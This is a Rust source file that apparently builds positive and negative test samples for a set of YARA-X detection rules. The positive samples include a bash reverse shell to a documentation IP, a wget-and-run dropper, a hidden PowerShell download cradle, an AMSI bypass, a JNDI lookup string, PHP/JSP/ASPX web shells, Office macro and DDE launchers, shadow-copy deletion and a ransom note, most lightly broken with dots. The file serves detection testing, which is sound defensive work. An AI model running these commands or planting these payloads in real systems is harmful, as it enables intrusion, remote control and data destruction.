//! For each bundled rule that blocks: a content it finds, and one that lacks the decisive part.

use std::io::{Cursor, Write};

use super::programs::{CODE, READ, Section, WRITE, code, elf, load, pe, section};
use super::{Sample, text};

/// Rule, extension, what it finds, what it does not.
const TEXTS: &[(&str, &str, &str, &str)] = &[
    ("Credential_Dumper_Strings", "bin", "MZ sekur·lsa::logonpasswords gentil·kiwi", "sekur·lsa::logonpasswords as a log of mimi·katz shows it"),
    ("Beacon_Configuration", "bin", "%s as %s\\%s: %d beacon.x·64.dll Reflec·tiveLoader", "%s as %s\\%s: %d beacon.x·64.dll"),
    (
        "Ransomware_Program",
        "bin",
        "MZ vssad·min delete shadows; your files have been encry·pted RESTORE-FILES.txt",
        "MZ vssad·min delete shadows; README.txt",
    ),
    ("Jndi_Lookup_Attack", "txt", "GET /?x=${jn·di:ldap://192.0.2.1:1389/a} HTTP/1.1", "GET /?x=${jn·di:file:///a} HTTP/1.1"),
    ("PDF_Launch_Program", "pdf", "%PDF-1.4\n1 0 obj<</S /Lau·nch /Win << /F (cm·d.exe) >> >>", "%PDF-1.4\n1 0 obj<</S /Lau·nch /F (a.pdf) >>"),
    (
        "PDF_Automatic_Shellcode_Script",
        "pdf",
        "%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(unes·cape(\"%u90·90%u9090%u9090\"))>>>>",
        "%PDF-1.4\n1 0 obj<</S/JavaScript/JS(unes·cape(\"%u90·90%u9090%u9090\"))>>",
    ),
    (
        "PDF_Embedded_Program_Opened",
        "pdf",
        "%PDF-1.4\n1 0 obj<</F (invoice.e·xe) /JS(this.exportData·Object({cName:'a',nLaunch:2}))>>",
        "%PDF-1.4\n1 0 obj<</F (invoice.txt) /JS(this.exportData·Object({cName:'a',nLaunch:2}))>>",
    ),
    ("RTF_Equation_Editor", "rtf", "{\\rtf1{\\object\\objemb{\\*\\objclass Equ·ation.3}\\objdata 01}}", "{\\rtf1 The Equ·ation.3 editor is gone.}"),
    (
        "RTF_Updating_Object",
        "rtf",
        "{\\rtf1{\\object\\objup·date{\\*\\objdata 687474·703a2f2f}}}",
        "{\\rtf1{\\object\\objemb{\\*\\objdata 687474·703a2f2f}}}",
    ),
    (
        "SettingContent_Runs_Program",
        "xml",
        "<PCSettings><DeepLink>%windir%\\system32\\cm·d.exe /c calc</DeepLink></PCSettings>",
        "<PCSettings><DeepLink>ms-settings:display</DeepLink></PCSettings>",
    ),
    (
        "URL_File_Remote_Program",
        "url",
        "[InternetShortcut]\r\nURL=file://192.0.2.1/s/a.e·xe\r\n",
        "[InternetShortcut]\r\nURL=https://example.org/a.exe\r\n",
    ),
    (
        "SVG_With_Redirecting_Script",
        "svg",
        "<svg xmlns='x'><script>window.loca·tion.href = at·ob('aHR0cA==')</script></svg>",
        "<svg xmlns='x'><script>var text = at·ob('aHR0cA==')</script></svg>",
    ),
    (
        "Office_Auto_Macro_Shell_Plain",
        "bas",
        "Attribute VB_Name = \"M\"\r\nSub Auto·Open()\r\nCreateObject(\"WScript.Sh·ell\")\r\nEnd Sub",
        "Attribute VB_Name = \"M\"\r\nSub Tidy()\r\nCreateObject(\"WScript.Sh·ell\")\r\nEnd Sub",
    ),
    (
        "Office_Remote_Template",
        "rels",
        "<Relationship Type=\"http://x/relationships/attached·Template\" Target=\"http://192.0.2.1/t.dotm\" TargetMode=\"External\"/>",
        "<Relationship Type=\"http://x/relationships/attached·Template\" Target=\"file:///C:/Normal.dotm\" TargetMode=\"External\"/>",
    ),
    (
        "Office_External_OleObject",
        "rels",
        "<Relationship Type=\"http://x/relationships/ole·Object\" Target=\"mhtml:http://192.0.2.1/a!x-u·sc:http://192.0.2.1/a\" TargetMode=\"External\"/>",
        "<Relationship Type=\"http://x/relationships/ole·Object\" Target=\"embeddings/oleObject1.bin\"/>",
    ),
    ("Office_DDE_Command", "txt", "DDE·AUTO c:\\\\windows\\\\system32\\\\cm·d.exe \"/k calc\"", "DDE·AUTO Excel.Sheet.8 \"Book1.xls\" R1C1"),
    (
        "Excel4_Macro_Exec",
        "xml",
        "<xm:macro·sheet><c><f>EX·EC(\"calc\")</f></c></xm:macrosheet>",
        "<xm:macro·sheet><c><f>SUM(A1)</f></c></xm:macrosheet>",
    ),
    (
        "PowerShell_Download_Cradle",
        "txt",
        "powershell -nop -w hid·den -c \"IE·X (New-Object Net.Web·Client).Download·String('http://192.0.2.1/a')\"",
        "powershell -c \"IE·X (New-Object Net.Web·Client).Download·String('https://example.org/install.ps1')\"",
    ),
    (
        "PowerShell_Amsi_Bypass",
        "txt",
        "[Ref].Assembly.GetType('System.Management.Automation.Amsi·Utils').GetField('amsi·InitFailed','NonPublic').SetValue($null,$true)",
        "[Ref].Assembly.GetType('System.Management.Automation.Amsi·Utils').GetField('amsi·InitFailed','NonPublic')",
    ),
    (
        "PowerShell_Memory_Injection",
        "txt",
        "$b=[Convert]::FromBase64·String('eA=='); Virtual·Alloc; [System.Runtime.InteropServices.Marshal]::Co·py($b,0,$p,1); Create·Thread",
        "$b=[Convert]::FromBase64·String('eA=='); Virtual·Alloc; [System.Runtime.InteropServices.Marshal]::Co·py($b,0,$p,1)",
    ),
    (
        "Script_Host_Dropper",
        "txt",
        "var h=new ActiveXObject('MSXML2.XML·HTTP'), s=new ActiveXObject('ADODB.Str·eam'); s.SaveTo·File('a'); new ActiveXObject('WScript.Sh·ell').Run('a')",
        "var h=new ActiveXObject('MSXML2.XML·HTTP'), s=new ActiveXObject('ADODB.Str·eam'); s.LoadFromFile('a'); new ActiveXObject('WScript.Sh·ell').Run('a')",
    ),
    (
        "HTA_Runs_Program",
        "hta",
        "<hta:appli·cation id=a><script>new ActiveXObject('WScript.Sh·ell').Run('power·shell x')</script>",
        "<hta:appli·cation id=a><script>new ActiveXObject('WScript.Sh·ell').Popup('hello')</script>",
    ),
    ("Reverse_Shell_One_Liner", "txt", "bash -i >& /dev/t·cp/192.0.2.1/4444 0>&1", "bash -i is interactive; /dev/t·cp/host/port is a socket"),
    (
        "Shell_Dropper_To_Tmp",
        "txt",
        "cd /tmp; wg·et http://192.0.2.1/bot.mi·ps; chmod +x bot.mips; ./bot.mips; rm -rf bot.mips",
        "wg·et http://192.0.2.1/a.deb; chmod +x a.deb; rm -rf build",
    ),
    (
        "Miner_Configuration",
        "json",
        "{\"donate-level\": 1, \"pools\": [{\"url\": \"stra·tum+tcp://pool.example.org:3333\"}]}",
        "{\"pools\": [{\"url\": \"https://pool.example.org:3333\"}], \"randomx\": true}",
    ),
    (
        "Ransom_Note",
        "txt",
        "All of your files have been encry·pted. Buy the decry·ptor with bitcoin. Install Tor Browser. Do not rename files.",
        "All of your files have been encry·pted by the new backup. Keep the passphrase.",
    ),
    (
        "Shadow_Copy_Deletion_Script",
        "txt",
        "vssad·min delete shadows /all\r\nwmic shadow·copy delete\r\n",
        "vssad·min delete shadows /all\r\nvssadmin list shadows\r\n",
    ),
    ("PHP_Eval_Of_Request", "php", "<?php @ev·al($_PO·ST['x']); ?>", "<?php ev·al($config['x']); ?>"),
    (
        "JSP_Command_Shell",
        "jsp",
        "<% Runtime.getRun·time().exec(request.getPara·meter(\"c\")); %>",
        "<% Runtime.getRun·time().exec(\"ls\"); request.getParameter(\"c\"); %>",
    ),
    (
        "ASPX_Command_Shell",
        "aspx",
        "<%@ Page Language=\"Jscript\"%><%ev·al(Request.It·em[\"x\"],\"unsafe\");%>",
        "<%@ Page %><% var x = Request.Item[\"eval\"]; %>",
    ),
];

pub(super) fn samples() -> Vec<Sample> {
    let texts = TEXTS.iter().map(|(rule, extension, bad, good)| (*rule, *extension, text(bad), text(good)));
    texts
        .chain(made())
        .flat_map(|(rule, extension, bad, good)| {
            [(true, "bad", bad), (false, "good", good)].map(|(is_bad, label, content)| Sample {
                name: format!("yara-{}-{label}.{extension}", rule.to_lowercase().replace('_', "-")),
                engine: "YARA-X",
                sign: rule,
                bad: is_bad,
                content,
            })
        })
        .collect()
}

/// Those that are no text, or long.
fn made() -> Vec<(&'static str, &'static str, Vec<u8>, Vec<u8>)> {
    let long = |start: &str, filling: &str, end: &str| text(&format!("{start}{}{end}", filling.repeat(64)));
    let stager = |first: &str| hex::decode(format!("{first}4883e4f0e8c0000000{}6548{}", "415141505251564831d2", "8b5260")).unwrap();
    let upx = |name: &'static [u8]| {
        let start = [&b"\x60\xbe"[..], &code(9_000)].concat();
        let empty = Section { virtual_size: 0x2_0000, ..section(name, CODE | READ | WRITE, Vec::new()) };
        pe(&[empty, section(b".b", CODE | READ | WRITE, start), section(b".rsrc", READ, vec![1; 600])], 0x2_1000, b"")
    };
    let bot = |words: &str| elf(2, &[load(5, text(words))], Ok((0, 0)));
    let rootkit = text("/etc/ld.so.pre·load\0dlsym\0readdir64\0/proc/net/tcp\0pam_authenticate\0accept\0");
    let tiny = [&b"\x6a\x29\x58\x99"[..], &code(100)].concat();
    let shortcut = |words: &str| [&b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46"[..], &text(words)].concat();
    let eicar = [&br"X5O!P%@AP[4\PZX54(P^)7CC)7}$"[..], b"EICAR-STANDARD-", b"ANTIVIRUS-TEST-FILE!$H+H*"].concat();
    let no_eicar = [&eicar[..40], b"_", &eicar[41..]].concat();
    vec![
        ("Meterpreter_Stager", "bin", stager("fc"), stager("fb")),
        ("UPX_Tampered", "exe", upx(b".a"), upx(b"UPX0")),
        ("ELF_IoT_Bot", "elf", bot("/dev/watch·dog /dev/misc/watch·dog busybox wg·et listening tun0"), bot("/dev/watch·dog busybox wg·et")),
        ("ELF_Preload_Rootkit", "elf", elf(3, &[load(5, rootkit.clone())], Ok((0, 0))), elf(2, &[load(5, rootkit)], Ok((0, 0)))),
        ("ELF_Tiny_Loader", "elf", elf(2, &[load(5, tiny.clone())], Ok((0, 0))), elf(2, &[load(5, [tiny, code(4_000)].concat())], Ok((0, 0)))),
        ("LNK_Runs_Interpreter", "lnk", shortcut("power·shell -e·nc QUJD"), shortcut("notepad.exe https://example.org")),
        ("Office_Ole_Package_Executable", "doc", packaged("invoice.j·s"), packaged("table.xlsx")),
        (
            "PowerShell_Encoded_Command",
            "txt",
            long("power·shell.exe -nop -enco·dedcommand ", "QUJD", ""),
            text("power·shell.exe -nop -enco·dedcommand QUJD"),
        ),
        (
            "Html_Smuggling",
            "html",
            long(
                "<script>var b=new Bl·ob([at·ob('UEs·DB",
                "QUJD",
                "')]);a.href=URL.createObject·URL(b);a.download='invoice.z·ip';a.click()</script>",
            ),
            long("<script>var b=new Bl·ob([at·ob('UEs·DB", "QUJD", "')]);a.href=URL.createObject·URL(b);a.download='report.csv';a.click()</script>"),
        ),
        ("EICAR_Test_File", "com", eicar, no_eicar),
        (
            "PHP_Packed_Eval",
            "php",
            long("<?php ev·al(gzinf·late(base64_·decode('", "QUJD", "')));"),
            long("<?php $x = gzinf·late(base64_·decode('", "QUJD", "'));"),
        ),
    ]
}

fn packaged(name: &str) -> Vec<u8> {
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    let stream = text(&format!("\x10\0\0\0\x02\0{name}\0C:\\x\\{name}\0\0\0\x03\0\x01\0\0\0x\0"));
    file.create_stream("/\u{1}Ole10Native").unwrap().write_all(&stream).unwrap();
    file.into_inner().into_inner()
}
